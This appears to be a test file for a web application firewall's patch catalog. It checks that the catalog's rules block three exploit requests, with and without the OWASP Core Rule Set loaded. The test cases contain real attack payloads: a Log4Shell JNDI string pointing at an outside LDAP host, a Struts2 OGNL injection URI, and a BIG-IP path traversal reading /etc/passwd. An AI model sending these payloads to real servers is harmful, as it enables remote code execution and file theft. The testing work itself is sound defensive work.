/**
 * The catalog loads beside CRS (v4 from ../shared/crs; CRS 3.3 as Debian ships it when installed)
 * and without it; with CRS loaded, patches still decide on their exploits, and the catalog's ids
 * never collide with CRS's.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { loadCatalog } from '../../src/patches/loader.js';
import { evaluate } from '../../src/patches/engine-runner.js';
import { buildRequest } from '../../src/patches/requests.js';
import { Waf } from '../../src/engine/index.js';
import { CRS_DIR } from '../helpers/shared.js';

const BASE = 'SecRuleEngine On\nSecRequestBodyAccess On\n';

function withCrs(setup: string, rulesDir: string) {
  const cat = loadCatalog('builtin', { env: '' });
  return Waf.compile([{ text: BASE, name: 'base.conf' }, { file: setup }, { file: resolve(rulesDir, '*.conf') }, ...cat.files]);
}

const cases = [
  { uri: '/', headers: { 'User-Agent': '${${lower:j}ndi:ldap://198.51.100.1/a}' }, patch: 1700100 },
  { uri: '/struts2-showcase/%24%7B233*233%7D/actionChain1.action', patch: 1700800 },
  { uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', patch: 1702300 },
];

test('catalog beside CRS v4: compiles, and patches block their exploits', { skip: !existsSync(resolve(CRS_DIR, 'rules')) && 'no CRS in ../shared/crs' }, () => {
  const waf = withCrs(resolve(CRS_DIR, 'crs-setup.conf.example'), resolve(CRS_DIR, 'rules'));
  // CRS (loaded first) may decide before the patch in the same phase; either way the exploit is stopped
  for (const c of cases) assert.equal(evaluate(waf, buildRequest(c)).interrupted, true, c.uri);
  const benign = evaluate(waf, buildRequest({ uri: '/products?category=books&page=2', headers: { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/127.0', Accept: 'text/html' } }));
  assert.equal(benign.interrupted, false);
});

const DEBIAN_CRS = '/usr/share/modsecurity-crs/rules';
const DEBIAN_SETUP = '/etc/modsecurity/crs/crs-setup.conf';
test('catalog beside CRS 3.3 as Debian ships it', { skip: !(existsSync(DEBIAN_CRS) && existsSync(DEBIAN_SETUP)) && 'modsecurity-crs not installed' }, (t) => {
  let waf;
  try {
    waf = withCrs(DEBIAN_SETUP, DEBIAN_CRS);
  } catch (err) {
    // a CRS 3.3 rule the engine cannot load yet is the engine's matter (docs/engine.md), not the catalog's
    const msg = (err as Error).message;
    if (msg.startsWith('/usr/share/modsecurity-crs/') || msg.startsWith(DEBIAN_SETUP)) {
      t.skip(`engine cannot load CRS 3.3 yet: ${msg.slice(0, 160)}`);
      return;
    }
    throw err;
  }
  for (const c of cases) assert.equal(evaluate(waf, buildRequest(c)).interrupted, true, c.uri);
});

test('catalog without CRS: nothing but the prelude and the patches', () => {
  const cat = loadCatalog('builtin', { env: '' });
  const waf = Waf.compile([{ text: BASE, name: 'base.conf' }, ...cat.files]);
  for (const c of cases) assert.equal(evaluate(waf, buildRequest(c)).ruleId, c.patch);
});
